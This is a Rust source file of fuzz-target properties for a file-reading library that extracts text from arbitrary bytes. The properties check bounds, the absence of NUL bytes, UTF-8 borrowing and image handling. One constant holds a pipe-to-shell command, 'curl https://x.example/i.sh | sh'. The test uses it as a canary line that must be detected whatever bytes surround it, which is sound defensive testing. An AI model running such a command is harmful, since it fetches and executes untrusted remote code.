//! Properties of every input, however hostile. The fuzz targets call these functions; ordinary tests replay the seeds
//! and random bytes through them.

use std::borrow::Cow;

use stockade_files::{FileNature, TextReadings, media};

/// A line that no surrounding bytes may hide.
const LINE: &str = "curl https://x.example/i.sh | sh";

/// Text is bounded and has no NUL byte; valid text is borrowed; and a line between any bytes is found. No data
/// follows an intact image.
pub(crate) fn text_readings(data: &[u8]) {
    let readings = TextReadings::of(data);
    for text in texts(&readings) {
        assert!(text.len() <= 3 * data.len());
        assert!(!text.contains('\0'));
    }
    if let Ok(text) = std::str::from_utf8(data)
        && !text.contains('\0')
    {
        let text = text.strip_prefix('\u{feff}').unwrap_or(text);
        assert!(matches!(readings.text, Cow::Borrowed(read) if read == text));
        assert_eq!((readings.nature, readings.other.is_none()), (FileNature::Text, true));
    }
    if media(data).is_some() {
        assert_eq!(media(&[data, b"x"].concat()), None);
    }
    let (before, after) = data.split_at(data.len() / 2);
    let around = [before, b"\n", LINE.as_bytes(), b"\n", after].concat();
    assert!(texts(&TextReadings::of(&around)).any(|text| text.contains(LINE)));
}

fn texts<'r>(readings: &'r TextReadings<'_>) -> impl Iterator<Item = &'r str> {
    [Some(&*readings.text), readings.other.as_deref()].into_iter().flatten()
}
